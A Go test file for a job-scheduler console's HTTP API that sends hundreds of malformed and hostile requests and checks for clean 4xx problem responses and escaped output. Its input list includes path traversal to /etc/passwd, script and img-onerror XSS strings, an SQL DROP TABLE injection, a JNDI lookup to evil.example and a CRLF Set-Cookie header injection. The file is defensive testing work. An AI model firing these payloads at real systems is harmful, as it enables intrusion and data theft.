package console_test

import (
	"encoding/base64"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// hostileTexts are what a name, a filter or a cursor should never be.
var hostileTexts = []string{
	"", " ", ".", "..", "../../etc/passwd", "-", "_x", "a b", "a/b", "a\\b", "a%00b", "a\x00b", "a\nb", "a\r\nSet-Cookie: x=y", "<script>alert(1)</script>",
	"\"><img src=x onerror=alert(1)>", "'; DROP TABLE jobs; --", "${jndi:ldap://evil.example/a}", "{{.}}", "\u202ereport", "re\u0301port", "\ufeffreport", "\xff\xfe",
	"\U0001F4A5", strings.Repeat("a", 129), strings.Repeat("a", 5000), "*", "report*", "report:{1}", "constructor", "__proto__", "NaN", "Infinity", "-1", "0x10",
	"1e9", "18446744073709551616", "9999999999999999999999", "null", "true", "[]", "{}",
}

// hostileRequests are requests that must be answered with one of a few statuses of 4xx, as problem
// documents.
func hostileRequests() (list []*http.Request) {
	add := func(method, target, body string, changes ...func(*http.Request)) {
		list = append(list, request(method, target, body, append([]func(*http.Request){bearer(operateSecret)}, changes...)...))
	}
	for _, text := range hostileTexts {
		escaped := url.PathEscape(text)
		if text == "" || text == "." || text == ".." {
			escaped += "x/../" // a path that is not clean
		}
		add("GET", "/api/v1/jobs/"+escaped+"/history", "")
		add("GET", "/api/v1/jobs?limit="+url.QueryEscape(text+"?"), "")
		if text != "" {
			add("GET", "/api/v1/jobs?after="+url.QueryEscape(text), "")
			add("GET", "/api/v1/jobs/report/history?after="+url.QueryEscape(text), "")
			add("GET", "/api/v1/jobs/report/ticks/"+url.PathEscape(text)+"x", "")
		}
		add("GET", "/api/v1/jobs/report/schedules/"+escaped, "")
		add("GET", "/jobs/report/schedules/"+escaped, "", header("Accept", "application/json"))
		add("PUT", "/api/v1/jobs/tenants/schedules/"+escaped, fmt.Sprintf(`{"cron": %q, %q: %q}`, text, text, text), asJSON)
		add("POST", "/api/v1/jobs/report/pause", fmt.Sprintf(`{"reason": 1, %q: %q}`, text, text), asJSON)
	}
	for _, query := range []string{
		"sort=colour", "sort=-", "state=broken", "limit=0", "limit=1001", "limit=1&limit=2", "zone=Mars/Olympus", "zone=../../etc/passwd", "group=a+b", "replica=-", "q=" + strings.Repeat("x", 300),
		"after=x&before=y", "%zz", "a=%", "q=%ff", ";", "colour=red", strings.Repeat("a=b&", 3000), "after=" + base64.RawURLEncoding.EncodeToString([]byte(`{"s":"name","n":"x","k":1e400}`)),
	} {
		add("GET", "/api/v1/jobs?"+query, "")
	}
	for _, target := range []string{
		"/api/v1/timeline?span=1s", "/api/v1/timeline?span=9999d", "/api/v1/timeline?span=-6h", "/api/v1/timeline?cells=1", "/api/v1/timeline?from=yesterday",
		"/api/v1/forecast?span=0s", "/api/v1/forecast?step=1ns", "/api/v1/forecast?top=-1", "/api/v1/locks?limit=-5", "/api/v1/audit?action=A", "/api/v1/audit?after=%00",
		"/api/v1/replicas?x=y", "/api/v1/events?job=../x", "/api/v1/events?after=a&after=b", "/api/v1/events?x=y", "/api/v1/status?job=a+b", "/api/v1/status?limit=1",
		"/api/v1/jobs/report/description?ticks=101", "/api/v1/jobs/report/description?outcomes=-1", "/api/v1/jobs/report/why?tick=soon", "/api/v1/jobs/report/why?tick=99999999999999999",
		"/api/v1/jobs/report/explanation?tick=-1", "/api/v1/jobs/report/ticks?limit=0", "/api/v1/jobs/unknown/history", "/api/v1/jobs/unknown", "/api/v1/jobs/report/",
		"/api/v1", "/api/v1/", "/api/v2/jobs", "/api/v1/jobs/report/ticks/1/2", "/api/v1//jobs", "/api/v1/./jobs", "/api/v1/jobs/%2e%2e/locks", "/api/v1/jobs%2freport", "/api/v1/JOBS",
		"/api/v1/status?" + strings.Repeat("job=a&", 1100),
	} {
		add("GET", target, "")
	}
	for _, body := range []string{
		"{", "[]", "null", "1", `"x"`, `{"reason": {}}`, `{"reason": []}`, `{"reason": true}`, `{"why": "x"}`, `{"reason": "a"} {"reason": "b"}`, `{"reason": "` + strings.Repeat("x", 2000) + `"}`,
		`{"reason": "a\u0000b"}`, `{"reason": "\ud800"` + "\xff}", strings.Repeat("[", 5000), `{"key": "a b"}`, `{"window_ms": 5}`, `{"key": "k", "window_ms": 0}`, `{"key": "k", "window_ms": 1e3}`,
		`{"key": "k", "window_ms": 99999999999999}`, `{"key": "k", "window_ms": "soon"}`, strings.Repeat(" ", 70_000), `{"reason": "` + strings.Repeat("x", 70_000) + `"}`,
	} {
		add("POST", "/api/v1/jobs/report/trigger", body, asJSON)
	}
	for _, body := range []string{`{}`, `{"jobs": []}`, `{"jobs": "report"}`, `{"jobs": [1]}`, `{"jobs": ["a b"]}`, `{"jobs": ["report"], "tick": "1"}`, `{"jobs": [` + strings.Repeat(`"a",`, 10_000) + `"b"]}`} {
		add("POST", "/api/v1/actions/pause", body, asJSON)
	}
	for _, body := range []string{`{}`, `{"name": "shop"}`, `{"name": "shop", "token": 0}`, `{"name": "shop", "token": -1}`, `{"name": "shop", "token": 9007199254740993}`, `{"name": "a b", "token": 1}`, `{"name": "shop", "token": 1}`} {
		add("POST", "/api/v1/locks/release", body, asJSON)
	}
	for _, contentType := range []string{"", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "application/json;", "json", "\xff"} {
		if contentType != "application/json;" {
			add("POST", "/api/v1/jobs/report/pause", `{"reason": "x"}`, header("Content-Type", contentType))
		}
		if contentType != "application/x-www-form-urlencoded" {
			add("POST", "/jobs/report/pause", "reason=x", header("Content-Type", contentType), header("Accept", "application/json"))
		}
	}
	for _, form := range []string{"colour=red", "reason=a&reason=b", "reason=%zz", "reason=" + strings.Repeat("x", 70_000), "reason=" + strings.Repeat("x", 2000), "reason=%00"} {
		add("POST", "/jobs/report/pause", form, asForm, header("Accept", "application/json"))
	}
	for _, method := range []string{"PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "BREW", "get"} {
		add(method, "/api/v1/jobs", "")
	}
	for _, accept := range []string{"image/png", "text/html;q=0", ";;;", "application/xml, text/csv"} {
		add("GET", "/", "", header("Accept", accept))
	}
	return list
}

func TestHostileRequestsGetClearProblems(t *testing.T) {
	s := newSite(t, withTokens())
	list := hostileRequests()
	require.Greater(t, len(list), 250)
	for _, r := range list {
		name := fmt.Sprintf("%s %.200s %q", r.Method, r.URL, r.Header)
		answer := s.do(r)
		require.GreaterOrEqual(t, answer.StatusCode, 400, name)
		require.Less(t, answer.StatusCode, 500, name)
		require.Equal(t, "application/problem+json", answer.Header.Get("Content-Type"), name)
		p := s.decode(answer)
		require.InDelta(t, answer.StatusCode, p["status"], 0, name)
		require.NotEmpty(t, p["detail"], name)
		require.Less(t, len(p["detail"].(string)), 4000, name)
		if answer.StatusCode == http.StatusBadRequest {
			require.NotEmpty(t, p["errors"], name)
		}
	}
	require.Nil(t, s.decode(s.get("/api/v1/jobs/report/description", bearer(readSecret)))["paused"], "none of them has changed anything")
}

func TestHostileTextsAreShownAsText(t *testing.T) {
	s := newSite(t)
	for _, hostile := range hostileTexts {
		for _, target := range []string{"/?q=" + url.QueryEscape(hostile), "/jobs/" + url.PathEscape(hostile+"!"), "/?state=" + url.QueryEscape(hostile), "/login?next=" + url.QueryEscape(hostile)} {
			r := s.get(target)
			body := text(t, r)
			require.Less(t, r.StatusCode, 500, target)
			for _, raw := range []string{"<script>alert", "<img src=x", "\x00"} {
				require.NotContains(t, body, raw, target)
			}
		}
	}
}

func TestHostileHeadersHarmNobody(t *testing.T) {
	s := newSite(t, withTokens())
	for _, name := range []string{"Cookie", "Accept", "Accept-Language", "Last-Event-ID", "X-Forwarded-Proto", "Origin", "Sec-Fetch-Site", "Referer", "HX-Request", "If-None-Match", "Range"} {
		for _, value := range []string{"", "\x00", "\xff", strings.Repeat("a", 10_000), strings.Repeat("a,", 5000), "solotick_session=", "solotick_session=;solotick_session=x", "*/*;q=2", "zh;q=x"} {
			r := s.get("/api/v1/jobs", bearer(readSecret), header(name, value))
			require.Less(t, r.StatusCode, 500, "%s: %.50q", name, value)
			r = s.get("/", bearer(readSecret), header(name, value))
			require.Less(t, r.StatusCode, 500, "%s: %.50q", name, value)
		}
	}
}
